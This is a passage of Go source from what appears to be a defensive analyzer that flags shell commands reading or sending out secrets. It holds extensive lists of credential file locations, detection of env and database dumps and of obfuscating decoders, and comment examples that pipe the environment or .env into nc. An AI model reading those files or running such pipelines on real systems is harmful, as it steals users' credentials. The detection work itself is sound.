		strings.Contains(p, "/.ssh/"), strings.Contains(p, "/.gnupg/"), strings.Contains(p, "/.aws/"),
		base == ".ssh", base == ".gnupg", base == ".aws", base == ".kube", base == ".password-store",
		strings.Contains(p, "/.config/gh/"), strings.Contains(p, "/.docker/config.json"),
		p == "/etc/shadow", base == "kubeconfig" || strings.Contains(p, ".kube/config"),
		base == "environ" && strings.HasPrefix(p, "/proc/"),                                             // a process's environment, not environment.yml
		strings.HasSuffix(base, ".tfstate") || strings.HasSuffix(base, ".tfstate.backup"),               // Terraform keeps every resource's secrets in its state
		base == "master.key" || strings.HasSuffix(base, ".key") && strings.Contains(p, "/credentials/"), // Rails' key to its encrypted credentials
		base == "wallet.dat" || strings.HasSuffix(base, ".kdbx"),
		signingKeystore(base), // an app's release signing key: no version control keeps it, and whoever has it signs as the app
		strings.HasPrefix(p, "/etc/ssh/ssh_host_") && !strings.HasSuffix(p, ".pub"):
		return true
	}
	if strings.ContainsAny(p, "*?[") {
		return globSecret(p)
	}
	for i := 0; i < len(p); i++ { // a place starting with / is looked for only where p has one
		if p[i] == '/' && i+1 < len(p) {
			for _, s := range secretPlacesAfterSlash[p[i+1]] {
				if strings.HasPrefix(p[i:], s) {
					return true
				}
			}
		}
	}
	for _, s := range secretPlacesElse {
		if strings.Contains(p, s) {
			return true
		}
	}
	return false
}

// shareable reports whether a file's name says it is made to be shared:
// a public key (id_ed25519.pub, authorized_keys, known_hosts) or an
// env file's template (.env.example, .env.sample, .env.template), which
// hold no secret and are sent, committed and printed as they are.
func shareable(base string) bool {
	if strings.HasSuffix(base, ".pub") || base == "authorized_keys" || base == "authorized_keys2" || base == "known_hosts" {
		return true
	}
	rest, ok := strings.CutPrefix(base, ".env.")
	return ok && (rest == "example" || rest == "sample" || rest == "template" || rest == "dist" || rest == "tmpl" || rest == "defaults")
}

// secretPlacesAfterSlash are the secretPlaces starting with a slash, by
// the byte after it; secretPlacesElse the others.
var secretPlacesAfterSlash, secretPlacesElse = func() (bySlash [256][]string, others []string) {
	for _, s := range secretPlaces {
		if len(s) > 1 && s[0] == '/' {
			bySlash[s[1]] = append(bySlash[s[1]], s)
		} else {
			others = append(others, s)
		}
	}
	return bySlash, others
}()

// secretExamples are paths, whole (/etc/shadow) or the tail of one
// (.ssh/id_rsa), that a secrets file has: a glob that can match one
// (~/.ss?/i*) may name it.
var secretExamples = []string{
	".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa", ".aws/credentials", ".netrc", ".git-credentials", ".npmrc",
	".pypirc", ".docker/config.json", ".kube/config", ".config/gh/hosts.yml", ".vault-token", ".pgpass",
	".claude/.credentials.json", ".codex/auth.json", ".config/git/credentials", ".cache/huggingface/token",
	".config/gcloud/credentials.db", ".config/gcloud/application_default_credentials.json", ".env",
	"/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_ed25519_key",
	".dbt/profiles.yml", ".snowsql/config", ".snowflake/connections.toml", ".databrickscfg", ".mylogin.cnf",
}

// globSecret reports whether a glob can match a secrets file's path
// (secretExamples), name by name as the shell matches: a * or ? does not
// match a leading dot.
func globSecret(pattern string) bool {
	pat := strings.Split(pattern, "/")
	for _, ex := range secretExamples {
		names := strings.Split(strings.TrimPrefix(ex, "/"), "/")
		if strings.HasPrefix(ex, "/") {
			if len(pat) != len(names)+1 || pat[0] != "" {
				continue
			}
		} else if len(pat) <= len(names) {
			continue
		}
		tail := pat[len(pat)-len(names):]
		match := true
		for i, n := range names {
			if ok, _ := path.Match(tail[i], n); !ok || n[0] == '.' && tail[i][0] != '.' {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}

// secretPlaces are parts of the paths of files that hold credentials:
// browsers' cookie and login stores, tools' token files, private keys, the
// environments of other processes.
var secretPlaces = []string{
	"/Cookies", "/Login Data", "cookies.sqlite", "logins.json", "key4.db", "/.password-store",
	"/.vault-token", "/.config/gcloud/", "/.azure/", "/.terraform.d/credentials", "rclone.conf",
	"/.m2/settings.xml", "/.cargo/credentials", "/.pgpass", "/.my.cnf", "/etc/ssl/private/",
	"/var/run/secrets/", "/run/secrets/", "/.bash_history", "/.zsh_history",
	"/etc/kubernetes/admin.conf", "/.config/hub", "/.gem/credentials", "/.docker/config.json",
	"/.config/gh/", "/private-keys-v1.d/", "/etc/gshadow", "node-token", "/.npmrc", "/.yarnrc",
	"/.Renviron", "/Keychains/", ".keychain", "/keyrings/", "/.s3cfg", "/.boto", "/.databrickscfg",
	"/.kaggle/kaggle.json", "/.oci/config", "/.config/doctl/", "/.terraformrc", "/.composer/auth.json",
	"/.gradle/gradle.properties", "/.config/rclone/", "/.wrangler/", "/.config/netlify/", "/.vercel/",
	"/.fly/", "/.config/heroku", "/.heroku/", "/.config/op/", "/.config/sops/", "/.mc/config.json",
	"/etc/rancher/", "/etc/kubernetes/", "/.config/hcloud/", "/.talos/", "/.config/linode-cli", "/.config/scw/",
	"/.b2_account_info", "/.config/b2/", "/.restic-password", "/.borg-passphrase", "/.config/borg/keys/", "/.config/mc/config.json",
	// Browsers' and mail clients' profiles (cookies, saved logins, their
	// keys), crypto wallets, chat apps' session tokens: whole directories.
	"/.mozilla/firefox", "/.thunderbird", "/.config/google-chrome", "/.config/chromium", "/.config/BraveSoftware",
	"/.config/microsoft-edge", "/.config/vivaldi", "/.config/opera", "/Application Support/Google/Chrome",
	"/Application Support/Firefox", "/Application Support/BraveSoftware", "/Application Support/Microsoft Edge",
	"/org.mozilla.firefox/", "/.electrum", "/.bitcoin", "/.ethereum/keystore", "/.monero", "/.config/Exodus",
	"/Application Support/Exodus", "/.config/Signal", "/.config/discord", "/.config/Slack",
	// Coding agents' and model hubs' own tokens, git's credential store
	// under XDG, the machine's SSH host keys.
	"/.claude/.credentials.json", "/.codex/auth.json", "/.config/git/credentials", "/.cache/huggingface/token",
	"/.huggingface/token", "/.config/github-copilot/",
	// Data tools' and registries' profiles, which hold the passwords,
	// tokens and keys of warehouses, databases and package registries
	// (dbt, Snowflake, Databricks, MySQL's login paths, libpq's service
	// file, Maven's master password, sbt and Ivy, NuGet, InfluxDB), and
	// other CLIs' login tokens.
	"/.dbt/profiles.yml", "/.snowsql/config", "/.snowflake/", "/.config/snowflake/", "/.databricks/token-cache",
	"/.mylogin.cnf", "/.pg_service.conf", "/.m2/settings-security.xml", "/.sbt/.credentials", "/.ivy2/.credentials",
	"/.nuget/NuGet/NuGet.Config", "/.influxdbv2/configs", "/.config/influxdb2/configs", "/.config/composer/auth.json",
	"/containers/auth.json", "/.config/glab-cli/", "/.config/stripe/", "/.pulumi/credentials.json", "/.circleci/cli.yml",
	"/.config/ngrok/", "/.ngrok2/", "/.sentryclirc", "/.config/configstore/firebase-tools.json", "/.twilio-cli/",
	"/.jfrog/", "/.tsh/", "/.authinfo", "/.passwd-s3fs", "/.smbcredentials", "vault_pass", "vault-pass", "vault_password",
}

// secretName reports whether a find -name pattern selects files that
// usually hold secrets: keys, certificates' private halves, key stores,
// token and credential files.
func secretName(pattern string) bool {
	t := strings.ToLower(strings.Trim(pattern, "*"))
	if t == "" {
		return false
	}
	if isSecretPath("/x/"+t) || strings.HasPrefix(t, "id_") {
		return true
	}
	for _, s := range []string{".pem", ".key", ".p12", ".pfx", ".kdbx", ".jks", ".keystore", ".ovpn", ".gpg", ".asc", "credential", "secret", "token", "password", "passwd", ".env"} {
		if strings.Contains(t, s) {
			return true
		}
	}
	return false
}

// readsListed reports whether a command reads the files whose names come
// on its stdin: an archiver's file list, xargs handing them to a reader.
func readsListed(name string, args []arg) bool {
	switch name {
	case "tar", "bsdtar", "gtar":
		for i, a := range args {
			if a.ok && (a.s == "-T" || a.s == "--files-from" || strings.HasPrefix(a.s, "--files-from=")) || a.ok && i > 0 && args[i-1].ok && args[i-1].s == "-T" {
				return true
			}
		}
	case "cpio", "afio":
		return true
	case "zip":
		return slices.ContainsFunc(args, func(a arg) bool { return a.ok && (a.s == "-@" || a.s == "--names-stdin") })
	case "xargs":
		ops := positionals(args, "-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a")
		if len(ops) > 0 {
			switch path.Base(ops[0]) {
			case "cat", "tar", "zip", "base64", "xxd", "gzip", "head", "tail", "curl", "scp", "rsync", "nc":
				return true
			}
		}
	}
	return false
}

// xargsPrints says what xargs prints of the items it reads: echo or
// printf (xargs's default, xargs -n1) print them again, so the
// environment or a secret goes on through them (export -p | xargs -I{}
// echo "{}" | nc …); cat and the like print the files they name, a
// secret when one of the names read is a secrets file (echo .env | xargs
// cat | nc …).
func (w *walker) xargsPrints(sc *scope, args []arg, prev source) (source, bool) {
	ops := positionals(args, "-I", "-n", "-P", "-L", "-s", "-d", "-E", "-a")
	run := "echo"
	if len(ops) > 0 {
		run = path.Base(ops[0])
	}
	switch {
	case prev.kind == srcSecret && (run == "echo" || run == "printf"):
		return prev, true
	case prev.kind == srcText && slices.Contains(readerNames, run):
		for _, f := range strings.Fields(prev.text) {
			if p := w.c.tilde(f); namedSecret(p) || isSecretPath(w.c.resolve(sc, arg{s: p, ok: true, src: f}).path) {
				return source{kind: srcSecret, text: p}, true
			}
		}
	}
	return source{}, false
}

// readerNames print the files xargs names to them.
var readerNames = []string{"cat", "base64", "xxd", "head", "tail", "od", "strings"}

// allNumbers reports whether every arg is a literal number (head -n 200's
// count, not a file).
func allNumbers(args []arg) bool {
	for _, a := range args {
		if !a.ok || a.s == "" || strings.Trim(strings.TrimPrefix(a.s, "+"), "0123456789") != "" {
			return false
		}
	}
	return true
}

// decode is what a decoding filter writes for known input: base64 -d,
// xxd -r -p, rev and tr of plain sets (rot13), the usual ways to hide a
// command from a reader.
func decode(name string, args []string, in string) (string, bool) {
	switch {
	case name == "base64" && (contains(args, "-d") || contains(args, "--decode") || contains(args, "-D")):
		b, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(in), ""))
		return string(b), err == nil
	case name == "xxd" && (contains(args, "-r") && contains(args, "-p") || contains(args, "-rp")):
		b, err := hex.DecodeString(strings.Join(strings.Fields(in), ""))
		return string(b), err == nil
	case name == "rev" && len(args) == 0:
		var lines []string
		for _, l := range strings.Split(strings.TrimSuffix(in, "\n"), "\n") {
			r := []rune(l)
			slices.Reverse(r)
			lines = append(lines, string(r))
		}
		return strings.Join(lines, "\n") + "\n", true
	case name == "tr" && len(args) == 2 && !strings.HasPrefix(args[0], "-"): // tr 'A-Za-z' 'N-ZA-Mn-za-m': rot13
		from, ok1 := trSet(args[0])
		to, ok2 := trSet(args[1])
		if !ok1 || !ok2 || len(to) == 0 {
			return "", false
		}
		m := map[byte]byte{}
		for i, c := range from {
			m[c] = to[min(i, len(to)-1)] // a shorter second set is padded with its last character
		}
		b := []byte(in)
		for i, c := range b {
			if t, ok := m[c]; ok {
				b[i] = t
			}
		}
		return string(b), true
	}
	return "", false
}

// environmentDecl reports whether export, declare or typeset is given no
// name, only options (-p, -x, -px): it prints the variables it lists.
func environmentDecl(d *syntax.DeclClause) bool {
	for _, a := range d.Args {
		if a.Name != nil || a.Value == nil {
			return false
		}
		if l := litOf(a.Value); !strings.HasPrefix(l, "-") || strings.ContainsAny(l, "fF") {
			return false // declare -f prints functions
		}
	}
	return true
}

// trSet expands a tr set of ASCII characters and ranges (A-Za-z0-9); a
// class, an escape or anything else tr reads otherwise is not known.
func trSet(s string) ([]byte, bool) {
	var out []byte
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '[' || c == '\\' || c >= 0x80 {
			return nil, false
		}
		if i+2 < len(s) && s[i+1] == '-' {
			if s[i+2] < c || s[i+2] == '\\' || s[i+2] >= 0x80 {
				return nil, false
			}
			for x := c; ; x++ {
				out = append(out, x)
				if x == s[i+2] {
					break
				}
			}
			i += 2
			continue
		}
		out = append(out, c)
	}
	return out, true
}

// envDump is the text of a source that is every environment variable
// (env, export -p): a filter that picks lines (grep NODE_) shows only
// those; one that passes every line on (sort, cat) shows all of them.
const envDump = "every environment variable"

// dumpOf starts the text of a source that is a database's dump: every
// row of it, user data and credentials among them. Read here it is
// ordinary work; sent to another host it leaves with them.
const dumpOf = "a database dump by "

// answerOf starts the text of a source that is the answer of an address
// naming credentials (credentialsURL): seen here it is the user's to
// read, as a dump is; sent on to another host it is their credentials.
const answerOf = "the answer of "

// dumpsDatabase reports whether a command prints a whole database: pg_dump,
// mysqldump, mongodump --archive, redis-cli --rdb -.
func dumpsDatabase(name string, args []arg) bool {
	switch name {
	case "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump":
		return true
	case "mongodump":
		return hasWord(args, "--archive")
	case "redis-cli", "valkey-cli":
		return hasWord(args, "--rdb")
	}
	return false
}

// dumpNote says, for a reason, that a source is a database dump.
func dumpNote(in source) string {
	if in.kind == srcSecret && (strings.HasPrefix(in.text, dumpOf) || strings.HasPrefix(in.text, answerOf)) {
		return " (" + in.text + ")"
	}
	return ""
}

// readsClipboard reports whether a command prints the clipboard: wl-paste,
// pbpaste, xclip -o, xsel -o.
func readsClipboard(name string, args []arg) bool {
	switch name {
	case "wl-paste", "pbpaste", "termux-clipboard-get":
		return true
	case "xclip", "xsel":
		for _, a := range args {
			if a.ok && (a.s == "-o" || a.s == "-out" || a.s == "--output" || name == "xsel" && perlCluster.MatchString(a.s) && strings.Contains(a.s, "o")) {
				return true
			}
		}
	}
	return false
}

// listedPaths is the directory and the name pattern of the paths ls, echo
// or printf '%s\n' prints when each of its operands is a glob in one
// directory (ls ~/Pictures/scans/*.png): the paths it matches, as written.
func listedPaths(name string, args []arg) (dir, pattern string, ok bool) {
	switch name {
	case "ls", "echo":
	case "printf":
		if len(args) == 0 || !args[0].ok || args[0].s != `%s\n` && args[0].s != `%s\0` {
			return "", "", false
		}
		args = args[1:]
	default:
		return "", "", false
	}
	_, ops := opts(args)
	for _, a := range ops {
		if !a.ok || !strings.ContainsAny(path.Base(a.s), "*?[") || strings.ContainsAny(path.Dir(a.s), "*?[") ||
			strings.ContainsAny(a.s, " \t\n") || strings.ContainsAny(a.src, `'"\`) { // echo '[file join …]': quoted, no glob
			return "", "", false
		}
		d := path.Dir(a.s)
		if dir != "" && d != dir {
			return "", "", false
		}
		dir = d
		if pattern == "" {
			pattern = path.Base(a.s)
		} else if pattern != path.Base(a.s) {
			pattern = "*"
		}
	}
	return dir, pattern, dir != ""
}

// keepsNames reports whether a filter keeps only what is before the first
// = of each NAME=value line it reads: cut -d= -f1, awk -F= '{print $1}',
// sed 's/=.*//', grep -o '^[^=]*'. Given the environment or an
// environment file, it prints the names and no value.
func keepsNames(name string, args []arg) bool {
	w, ok := strs(args)
	if !ok {
		return false
	}
	joined := strings.Join(w, " ")
	switch name {
	case "cut":
		return namesCut.MatchString(joined)
	case "awk", "gawk", "mawk":
		return namesAwk.MatchString(joined)
	case "sed":
		return namesSed.MatchString(joined)
	case "grep", "egrep":
		return namesGrep.MatchString(joined)
	}
	return false
}

// The programs of keepsNames: each whole argument list, nothing else in it.
var (
	namesCut  = lazyRE(`^(?:-d ?=|--delimiter[= ]=) ?(?:-f ?1|--fields[= ]1)$|^(?:-f ?1|--fields[= ]1) ?(?:-d ?=|--delimiter[= ]=)$`)
	namesAwk  = lazyRE(`^(?:-F ?=|-v FS==) ?(?:(?:[\w\s!/^#&|~=<>.\[\]*+?\\-]|\$[01]\b)*\{ ?print \$1;? ?\})$`) // a pattern (!/^#/ && NF) that picks lines, not what they print
	namesSed  = lazyRE(`^(?:-[eE] )?s([/|#,:])=\.\*\$?[/|#,:][^\\&/|#,:]*[/|#,:]g?$`)                           // s/=.*//, s/=.*/=<redacted>/
	namesGrep = lazyRE(`^-(?:o|oE|Eo|Po|oP) \^(?:\[\^=\][*+]|\[A-Za-z_\]\[A-Za-z0-9_\]\*)$`)
)

// gitListed is the directory and name pattern of the files git ls-files
// lists (git ls-files -m, git ls-files '*.py', git ls-files src): the
// tree's tracked, modified or untracked files, the user's own work. Not
// the ignored files (-i), which tools made, nor deleted ones (-d, -k).
func gitListed(argv []string) (dir, pattern string, ok bool) {
	i := 1
	for i < len(argv) && argv[0] == "git" && strings.HasPrefix(argv[i], "-") {
		i++ // git --no-pager ls-files
	}
	if len(argv) < 2 || argv[0] != "git" || at(argv, i) != "ls-files" {
		return "", "", false
	}
	dir = "."
	for _, a := range argv[i+1:] {
		switch {
		case a == "-i" || a == "--ignored" || a == "-d" || a == "--deleted" || a == "-k" || a == "--killed":
			return "", "", false
		case strings.HasPrefix(a, "-") || pattern != "" || dir != ".":
		case strings.ContainsAny(a, "*?["):
			if d, name := path.Split(a); !strings.ContainsAny(d, "*?[") {
				dir, pattern = path.Clean(cmp.Or(d, ".")), name
			} else {
				pattern = name // git ls-files '**/*.py'
			}
		default:
			dir = path.Clean(a)
		}
	}
	return dir, pattern, true
}

// listingWord is what a word that is one command substitution of git
// ls-files stands for ($(git ls-files '*.py'), <(git ls-files -z)): the
// files it lists, as a glob under the directory it lists.
func listingWord(sc *scope, w *syntax.Word) (arg, bool) {
	parts := w.Parts
	if len(parts) == 1 {
		if dq, ok := parts[0].(*syntax.DblQuoted); ok {
			parts = dq.Parts
		}
	}
	if len(parts) != 1 {
		return arg{}, false
	}
	var stmts []*syntax.Stmt
	switch x := parts[0].(type) {
	case *syntax.CmdSubst:
		stmts = x.Stmts
	case *syntax.ProcSubst:
		stmts = x.Stmts
	}
	if len(stmts) != 1 {
		return arg{}, false
	}
	ce, ok := stmts[0].Cmd.(*syntax.CallExpr)
	if !ok {
		return arg{}, false
	}
	argv, ok := plainWords(ce.Args)
	if !ok {
		return arg{}, false
	}
	dir, pattern, ok := gitListed(argv)
	if !ok {
		return arg{}, false
	}
	g := named(under(arg{s: dir, ok: true, src: dir}, pattern != ""), pattern)
	return arg{s: g.s, ok: true, src: wordSource(sc.src, w), item: true}, true
}

// printsEnv reports whether an interpreter's one-liner prints every
// environment variable, values and all (python3 -c 'print(dict(os.environ))',
// node -e 'console.log(process.env)', ruby -e 'pp ENV'), as env does.
func printsEnv(name string, args []arg) bool {
	if !codeInterp.MatchString(name) {
		return false
	}
	for i, a := range args {
		if a.ok && codeOpt[a.s] && i+1 < len(args) && args[i+1].ok {
			s := args[i+1].s
			return envPrinted.MatchString(s) || envLoop.MatchString(s) && printCall.MatchString(s) && !envFilter.MatchString(s)
		}
	}
	return false
}

// codeInterp names the interpreters printsEnv reads; codeOpt are the
// options that give them code.
var (
	codeInterp = lazyRE(`^(?:python[\d.]*|pypy3?|node|nodejs|bun|deno|ruby|perl|php[\d.]*|clojure|clj|bb|groovy|scala|kotlin|jshell|elixir|iex|julia|Rscript|R|lua|luajit|raku|perl6)$`)
	codeOpt    = map[string]bool{"-c": true, "-e": true, "-E": true, "-p": true, "-r": true, "--eval": true, "--print": true}
)
